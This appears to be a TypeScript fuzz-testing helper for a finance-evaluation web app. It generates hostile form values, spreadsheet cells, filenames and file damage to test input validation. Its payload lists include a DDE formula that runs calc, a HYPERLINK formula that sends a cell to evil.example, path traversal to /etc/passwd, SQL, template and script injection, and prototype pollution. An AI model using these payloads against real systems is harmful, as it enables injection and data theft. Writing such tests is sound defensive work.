// Hostile input for the fuzz tests (SECURITY.md §12.2): the strings, numbers and ids an attacker or
// a careless spreadsheet would send, as fast-check arbitraries; workbook and byte mutations for the
// imports; and a digest of the whole database, so "a refused request changes nothing" means every
// table, not the few a test thought of.
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import type { Db } from '../../db/client.server'

/** Over the form-body cap (1 MiB) once URL-encoded: the server must answer 413 or 400, never 5xx. */
export const ONE_MEGABYTE = 'x'.repeat(1024 * 1024)

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\u202Egnp.exe',
  '\u2066隔离\u2069',
  '\u200B',
  '表情 😀👍🏽',
  '行内\r\n回车换行',
  '=cmd|\' /c calc\'!A1',
  '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '{{constructor.constructor}}',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  '[]',
  '{}',
  '{"__proto__":{"admin":true}}',
  'true',
  'null',
  'undefined',
  'x'.repeat(5000),
]

export const HOSTILE_NUMBERS: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '-1e309',
  '0x10',
  '1_000',
  '１２３',
  '1,000',
  '.5',
  '5.',
  '0.0000001',
  '9007199254740993',
  '9'.repeat(40),
  '-1',
  '0',
  '2026-02-30',
  '2026-13-01',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV',
]

/**
 * One form value. `foreignIds` are real ids the actor may not touch (another agency's engagement,
 * expert, user, organization; another bureau's): they must answer like unknown ids.
 */
export function hostileValue(foreignIds: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 4 },
    { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS), weight: 3 },
    { arbitrary: fc.constantFrom(...(foreignIds.length ? foreignIds : ['01ARZ3NDEKTSV4RRFFQ69G5FAV'])), weight: 3 },
    { arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
    { arbitrary: fc.integer().map(String), weight: 1 },
    { arbitrary: fc.double().map(String), weight: 1 },
  )
}

/**
 * Key/value pairs over `keys`, each possibly missing or repeated (a duplicate key is how a browser
 * sends a multi-select, and what a crafted form abuses). About one form in 25 also carries the
 * 1 MB string: rare, since each costs a megabyte on the wire and is refused before parsing.
 */
export function hostilePairs(keys: readonly string[], foreignIds: readonly string[], size: { minLength?: number; maxLength: number }): fc.Arbitrary<[string, string][]> {
  const key = fc.constantFrom(...keys)
  const pairs = fc.array(fc.tuple(key, hostileValue(foreignIds)), size)
  const huge = fc.tuple(pairs, key).map(([p, k]): [string, string][] => [...p, [k, ONE_MEGABYTE]])
  return fc.oneof({ arbitrary: pairs, weight: 24 }, { arbitrary: huge, weight: 1 })
}

/** A whole form: the real form's field names plus ones it does not have. */
export function hostileForm(fieldNames: readonly string[], foreignIds: readonly string[], maxLength = 24): fc.Arbitrary<[string, string][]> {
  return hostilePairs([...fieldNames, 'intent', 'version', 'id', 'unknown_key', '__proto__'], foreignIds, { maxLength })
}

/** Ids of tenants the fuzzing actors do not belong to: agency B (杭州衡平) and bureau Y (西湖区). */
export function foreignIdsOf(db: Db): string[] {
  const ids = (sql: string) => (db.$client.prepare(sql).all() as { id: string }[]).map((r) => r.id)
  return [
    ...ids(`SELECT id FROM organizations WHERE name IN ('杭州衡平会计师事务所', '杭州市西湖区财政局')`),
    ...ids(`SELECT e.id FROM engagements e JOIN organizations o ON o.id = e.agency_id WHERE o.name = '杭州衡平会计师事务所'`),
    ...ids(`SELECT u.id FROM users u JOIN organizations o ON o.id = u.organization_id WHERE o.name IN ('杭州衡平会计师事务所', '杭州市西湖区财政局')`),
    ...ids(`SELECT u.id FROM evaluated_units u JOIN organizations o ON o.id = u.finance_bureau_id WHERE o.name = '杭州市西湖区财政局'`),
    // Experts are one shared pool; an expert on agency B's panels or the blacklisted one stands in.
    ...ids(`SELECT id FROM experts WHERE name IN ('李静') LIMIT 1`),
  ]
}

/**
 * A hash of every user table, so a refused request can be shown to have changed nothing anywhere.
 * Left out: sessions and login throttling (a request may refresh its session; a failed password is
 * counted even when refused) and the audit rows of login.* (security events, not changes).
 * PRAGMA data_version tells whether anyone committed since the last hash, so the common case (a
 * refusal, nothing written) costs one pragma instead of reading the database.
 */
export class DatabaseDigest {
  private tables: string[]
  private cached: { dataVersion: number; digest: string } | null = null

  constructor(private readonly db: Db) {
    this.tables = (db.$client.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '__drizzle%' ORDER BY name").all() as { name: string }[])
      .map((t) => t.name)
      .filter((t) => t !== 'sessions' && t !== 'login_failures')
  }

  /** The tables the digest covers (checked by the tests, so a new table is covered by default). */
  covered(): readonly string[] {
    return this.tables
  }

  current(): string {
    // Read the version and the rows in one read transaction, so the hash belongs to that version.
    return this.db.$client.transaction(() => {
      const dataVersion = this.db.$client.pragma('data_version', { simple: true }) as number
      if (this.cached?.dataVersion === dataVersion) return this.cached.digest
      const hash = createHash('sha256')
      for (const table of this.tables) {
        hash.update(`\u0001${table}\u0001`)
        const where = table === 'audit_log' ? " WHERE action NOT LIKE 'login.%'" : ''
        const rows = this.db.$client.prepare(`SELECT * FROM "${table}"${where} ORDER BY rowid`).raw().iterate() as Iterable<unknown[]>
        for (const row of rows) hash.update(JSON.stringify(row, (_k, v: unknown) => (Buffer.isBuffer(v) ? v.toString('base64') : typeof v === 'bigint' ? String(v) : v)))
      }
      const digest = hash.digest('hex')
      this.cached = { dataVersion, digest }
      return digest
    })()
  }
}

const CLOSED_SOCKET = new Set(['UND_ERR_SOCKET', 'EPIPE', 'ECONNRESET'])

/**
 * Sends once more when the server had closed a kept-alive socket just as the request went out: on
 * a loaded machine the client can stall past the server's keep-alive timeout. That is a transport
 * race, not an answer, and the server never read the request.
 */
export async function retryOnClosedSocket(send: () => Promise<Response>): Promise<Response> {
  try {
    return await send()
  } catch (error) {
    const code = (error as { cause?: { code?: string } }).cause?.code
    if (!code || !CLOSED_SOCKET.has(code)) throw error
    return send()
  }
}

/** How many files the store holds on disk (a refused upload must not leave one behind). */
export function filesOnDisk(dbFile: string): number {
  const root = path.join(path.dirname(dbFile), 'files')
  return fs.existsSync(root) ? fs.readdirSync(root, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).length : 0
}

// ---- Spreadsheet cells and file mutations, for the imports ----

/** A cell value Excel could hold, or that a hand-edited file would: text, odd numbers, formulas, errors. */
export function hostileCell(foreignIds: readonly string[]): fc.Arbitrary<ExcelJS.CellValue> {
  return fc.oneof(
    { arbitrary: fc.constantFrom<string>(...HOSTILE_STRINGS, ...HOSTILE_NUMBERS), weight: 5 },
    { arbitrary: fc.constantFrom(...(foreignIds.length ? foreignIds : ['01ARZ3NDEKTSV4RRFFQ69G5FAV'])), weight: 1 },
    { arbitrary: fc.constantFrom<number>(Number.NaN, Infinity, -Infinity, -0, 1e308, -1, 0.1 + 0.2, 2 ** 53 + 2, 101, 1e-9), weight: 3 },
    { arbitrary: fc.double().filter((n) => Number.isFinite(n)), weight: 1 },
    { arbitrary: fc.boolean(), weight: 1 },
    { arbitrary: fc.constant(new Date(Date.UTC(2026, 1, 28))), weight: 1 },
    { arbitrary: fc.constant<ExcelJS.CellValue>({ formula: 'SUM(A1:A9)', result: 7 } as ExcelJS.CellFormulaValue), weight: 1 },
    { arbitrary: fc.constant<ExcelJS.CellValue>({ formula: 'HYPERLINK("http://evil.example","点击")' } as ExcelJS.CellFormulaValue), weight: 1 },
    { arbitrary: fc.constant<ExcelJS.CellValue>({ error: '#REF!' } as ExcelJS.CellErrorValue), weight: 1 },
    { arbitrary: fc.constant<ExcelJS.CellValue>({ richText: [{ text: '=1+1' }, { text: '富文本', font: { bold: true } }] }), weight: 1 },
    { arbitrary: fc.constant<ExcelJS.CellValue>({ text: '链接', hyperlink: 'file:///etc/passwd' }), weight: 1 },
    { arbitrary: fc.constant(null), weight: 1 },
    { arbitrary: fc.constant('长'.repeat(40_000)), weight: 1 },
    { arbitrary: fc.string({ maxLength: 30 }), weight: 2 },
  )
}

export type CellEdit = { row: number; col: number; value: ExcelJS.CellValue }
export type WorkbookMutation =
  | { kind: 'cells'; edits: CellEdit[] }
  | { kind: 'deleteColumn'; col: number }
  | { kind: 'duplicateColumn'; col: number }
  | { kind: 'deleteRow'; row: number }
  | { kind: 'duplicateRow'; row: number }
  | { kind: 'renameSheet'; name: string }

/**
 * A change to a valid workbook's first sheet. Rows and columns are 1-based and drawn within
 * `rows`×`cols` (the template's size plus one), so most edits land in the header or the data.
 */
export function workbookMutation(rows: number, cols: number, foreignIds: readonly string[]): fc.Arbitrary<WorkbookMutation> {
  const row = fc.integer({ min: 1, max: rows + 1 })
  const col = fc.integer({ min: 1, max: cols + 1 })
  return fc.oneof(
    { arbitrary: fc.array(fc.record({ row, col, value: hostileCell(foreignIds) }), { minLength: 1, maxLength: 3 }).map((edits) => ({ kind: 'cells' as const, edits })), weight: 8 },
    { arbitrary: col.map((c) => ({ kind: 'deleteColumn' as const, col: c })), weight: 1 },
    { arbitrary: col.map((c) => ({ kind: 'duplicateColumn' as const, col: c })), weight: 1 },
    { arbitrary: row.map((r) => ({ kind: 'deleteRow' as const, row: r })), weight: 1 },
    { arbitrary: row.map((r) => ({ kind: 'duplicateRow' as const, row: r })), weight: 1 },
    { arbitrary: fc.constantFrom('Sheet1', '=1+1', '指标').map((name) => ({ kind: 'renameSheet' as const, name })), weight: 1 },
  )
}

/** Applies a mutation to the workbook's sheet named `sheetName` (the first sheet when absent). */
export async function mutateWorkbook(bytes: Buffer, mutation: WorkbookMutation, sheetName?: string): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
  const sheet = (sheetName ? workbook.getWorksheet(sheetName) : undefined) ?? workbook.worksheets[0]!
  switch (mutation.kind) {
    case 'cells':
      for (const e of mutation.edits) sheet.getCell(e.row, e.col).value = e.value
      break
    case 'deleteColumn':
      sheet.spliceColumns(mutation.col, 1)
      break
    case 'duplicateColumn':
      sheet.spliceColumns(mutation.col, 0, sheet.getColumn(mutation.col).values as ExcelJS.CellValue[])
      break
    case 'deleteRow':
      sheet.spliceRows(mutation.row, 1)
      break
    case 'duplicateRow':
      // exceljs can only copy a row that exists.
      if (mutation.row <= sheet.rowCount) sheet.duplicateRow(mutation.row, 1, true)
      break
    case 'renameSheet':
      sheet.name = mutation.name
      break
  }
  return Buffer.from(await workbook.xlsx.writeBuffer())
}

export type ByteMutation = { kind: 'truncate'; at: number } | { kind: 'garbage'; bytes: Uint8Array } | { kind: 'flip'; at: number; xor: number } | { kind: 'empty' }

/** Damage to a file's bytes: cut short, overwritten, replaced by noise, or empty. `at` is a share (0–1) of the length. */
export function byteMutation(): fc.Arbitrary<ByteMutation> {
  return fc.oneof(
    fc.double({ min: 0, max: 0.999, noNaN: true }).map((at) => ({ kind: 'truncate' as const, at })),
    fc.uint8Array({ minLength: 1, maxLength: 2048 }).map((bytes) => ({ kind: 'garbage' as const, bytes })),
    fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 1, max: 255 })).map(([at, xor]) => ({ kind: 'flip' as const, at, xor })),
    fc.constant({ kind: 'empty' as const }),
  )
}

export function damageBytes(bytes: Buffer, m: ByteMutation): Buffer {
  switch (m.kind) {
    case 'truncate':
      return bytes.subarray(0, Math.floor(bytes.length * m.at))
    case 'garbage':
      return Buffer.from(m.bytes)
    case 'flip': {
      const copy = Buffer.from(bytes)
      const i = Math.floor(copy.length * m.at)
      copy[i] = (copy[i] ?? 0) ^ m.xor
      return copy
    }
    case 'empty':
      return Buffer.alloc(0)
  }
}

/** An uploaded file's name as a hostile client might send it. */
export function hostileFilename(extension: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constant(`资料.${extension}`),
    fc.constantFrom('../../etc/passwd', '..\\..\\x', '\u202Efdp.exe', 'a\u0000b', '=1+1', '{{constructor}}', 'CON', '.', '').map((n) => `${n}.${extension}`),
    fc.constant(`${'长'.repeat(300)}.${extension}`),
    fc.string({ maxLength: 20 }).map((n) => `${n}.${extension}`),
  )
}
